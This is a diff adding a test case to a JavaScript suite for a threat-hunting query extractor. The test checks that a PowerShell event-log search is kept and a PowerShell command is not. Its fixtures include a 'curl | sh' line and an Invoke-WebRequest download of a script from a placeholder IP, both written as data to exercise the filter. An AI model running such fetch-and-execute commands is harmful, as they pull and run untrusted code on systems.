@@ -38,4 +38,13 @@ describe('extractHuntQueries', () => {
     const text = '```bash\ncurl -s http://x.test | sh\n```\n```json\n{"where": "process"}\n```\nAnalysts should query process events where possible.';
     expect(queries(text)).toEqual([]);
   });
+
+  it('reads a PowerShell event-log search as a query, even in a powershell-tagged block, but not a PowerShell command', () => {
+    const text = [
+      '```powershell', "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }", '```',
+      '```powershell', 'Invoke-WebRequest -Uri http://203.0.113.9/a.ps1 -OutFile a.ps1', '```',
+    ].join('\n');
+    expect(queries(text)).toEqual([['powershell', "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4698} | Where-Object { $_.Message -match 'Updater' }"]]);
+  });
 });
+
